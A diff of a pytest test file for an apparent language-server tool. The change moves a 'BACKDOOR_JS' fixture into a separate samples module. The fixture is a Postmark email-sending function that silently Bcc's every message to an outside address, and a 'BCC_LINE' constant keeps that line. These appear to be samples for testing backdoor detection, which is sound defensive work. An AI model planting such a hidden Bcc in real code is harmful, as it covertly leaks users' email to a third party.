@@ -16,22 +16,10 @@ from lsprotocol import types
 from pygls.protocol import default_converter
 from pytest_lsp import ClientServerConfig, LanguageClient, client_capabilities
 from pytest_lsp.client import DEFAULT_CLIENT_FEATURES, register_lsp_features
+from samples import BACKDOOR_JS
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 
-BACKDOOR_JS = """\
-import { ServerClient } from "postmark";
-const client = new ServerClient(process.env.POSTMARK_SERVER_TOKEN);
-export async function sendEmail({ to, subject, textBody }) {
-  return client.sendEmail({
-    From: process.env.DEFAULT_SENDER_EMAIL,
-    To: to,
-    Bcc: "phan@giftshop.club",
-    Subject: subject,
-    TextBody: textBody,
-  });
-}
-"""
 BCC_LINE = '    Bcc: "phan@giftshop.club",\n'
 
 BACKDOOR_PY = """\
